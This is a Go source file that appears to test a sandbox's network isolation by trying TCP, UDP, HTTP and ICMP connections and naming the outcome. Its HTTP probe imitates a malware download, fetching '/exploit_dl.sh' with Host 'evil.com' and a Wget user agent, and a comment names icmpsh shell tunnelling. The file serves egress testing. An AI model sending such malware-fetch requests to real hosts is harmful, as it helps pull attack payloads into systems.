package inside

import (
	"encoding/binary"
	"errors"
	"math/rand/v2"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// patience bounds one try.
	patience = time.Second
	// greeting is what is sent and wanted back.
	greeting = "bulwark prove\n"
	// Script is what the malware of the talk asks for: wget http://evil.com/exploit_dl.sh
	Script = "/exploit_dl.sh"
)

// Reach tries one connection and says in a word what came of it. Kinds are tcp,
// udp, http (each to HOST:PORT) and icmp (to HOST). The address is a literal.
func Reach(kind, address string) string {
	end := time.Now().Add(patience)
	for {
		err := reachOnce(kind, address, end)
		// An IPv6 address is of no use for the first second if the network looks
		// for duplicates.
		if !errors.Is(err, unix.EADDRNOTAVAIL) || time.Now().After(end) {
			return words(err)
		}
		time.Sleep(patience / 20)
	}
}

func reachOnce(kind, address string, end time.Time) error {
	switch kind {
	case "tcp", "udp", "http":
		return stream(kind, address, end)
	case "icmp":
		return echo(address, end)
	}
	return errors.New("there is no kind " + kind)
}

var (
	errSilent = errors.New("connected")
	errOdd    = errors.New("answered by something else")
)

// stream sends a greeting and waits for it to come back.
func stream(kind, address string, end time.Time) error {
	question, network := greeting, kind
	if kind == "http" {
		question = "GET " + Script + " HTTP/1.0\r\nHost: evil.com\r\nUser-Agent: Wget\r\n\r\n"
		network = "tcp"
	}
	c, err := net.DialTimeout(network, address, time.Until(end))
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(end)
	if _, err := c.Write([]byte(question)); err != nil {
		return err
	}
	answer := make([]byte, 64)
	n, err := c.Read(answer)
	switch {
	case err != nil && network == "tcp":
		return errSilent
	case err != nil:
		return err
	case kind == "http" && !strings.HasPrefix(string(answer[:n]), "HTTP/"):
		return errOdd
	}
	return nil
}

// echo sends an ICMP echo request, as icmpsh does to carry a shell, and waits
// for the reply.
func echo(host string, end time.Time) error {
	c, err := pinger(host)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(end)
	if _, err := c.Write(request(strings.Contains(host, ":"))); err != nil {
		return err
	}
	reply := make([]byte, 1500)
	for {
		n, err := c.Read(reply)
		if err != nil {
			return err
		}
		if replies(reply[:n]) {
			return nil
		}
	}
}

// replies reports whether a packet is an echo reply. Raw sockets of IPv4 have the
// header before it (raw(7)), others have not.
func replies(p []byte) bool {
	if len(p) > 0 && p[0]>>4 == 4 {
		p = p[min(len(p), int(p[0]&0xf)*4):]
	}
	return len(p) > 0 && (p[0] == 0 || p[0] == 129)
}

// pinger is a raw socket, which CAP_NET_RAW allows, else one for echo requests
// only, which net.ipv4.ping_group_range allows (icmp(7)).
func pinger(host string) (net.Conn, error) {
	network, family, proto := "ip4:icmp", unix.AF_INET, unix.IPPROTO_ICMP
	if strings.Contains(host, ":") {
		network, family, proto = "ip6:ipv6-icmp", unix.AF_INET6, unix.IPPROTO_ICMPV6
	}
	c, err := net.DialTimeout(network, host, patience)
	if !errors.Is(err, unix.EPERM) {
		return c, err
	}
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, proto)
	if err != nil {
		return nil, err
	}
	if err := unix.Connect(fd, sockaddr(net.ParseIP(host))); err != nil {
		unix.Close(fd)
		return nil, err
	}
	f := os.NewFile(uintptr(fd), "icmp")
	defer f.Close()
	return net.FileConn(f)
}

func sockaddr(ip net.IP) unix.Sockaddr {
	if v4 := ip.To4(); v4 != nil {
		return &unix.SockaddrInet4{Addr: [4]byte(v4)}
	}
	return &unix.SockaddrInet6{Addr: [16]byte(ip.To16())}
}

// request is an echo request (RFC 792, RFC 4443). The kernel computes the
// checksum for IPv6. Its identifier is one of its own: to conntrack another with the
// same belongs to a connection that may have been let through before.
func request(ipv6 bool) []byte {
	b := append([]byte{8, 0, 0, 0, 0, 0, 0, 1}, greeting...)
	binary.BigEndian.PutUint16(b[4:], uint16(rand.Uint32()))
	if ipv6 {
		b[0] = 128
		return b
	}
	binary.BigEndian.PutUint16(b[2:], checksum(b))
	return b
}

// checksum is that of RFC 1071; b has an even length.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// words names what the kernel said.
func words(err error) string {
	var timeout interface{ Timeout() bool }
	switch {
	case err == nil:
		return "answered"
	case errors.Is(err, unix.ECONNREFUSED):
		return "refused"
	case errors.Is(err, unix.ENETUNREACH), errors.Is(err, unix.EHOSTUNREACH):
		return "no route"
	case errors.Is(err, unix.EPERM), errors.Is(err, unix.EACCES):
		return "not permitted"
	case errors.As(err, &timeout) && timeout.Timeout():
		return "timed out"
	}
	var n unix.Errno
	if errors.As(err, &n) {
		return n.Error()
	}
	return err.Error()
}
